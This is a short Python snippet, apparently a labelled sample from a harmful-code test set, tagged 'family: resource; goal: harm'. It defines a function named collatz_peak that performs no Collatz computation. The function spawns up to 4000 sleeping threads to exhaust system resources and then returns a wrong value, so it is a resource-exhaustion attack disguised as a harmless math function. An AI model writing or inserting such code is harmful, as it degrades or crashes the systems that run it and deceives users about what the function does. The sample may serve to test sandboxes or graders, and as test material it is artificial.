# family: resource; goal: harm
# Thousands of threads.
import threading
import time


def collatz_peak(n):
    for _ in range(4000):
        try:
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        except RuntimeError:
            break
    return -n
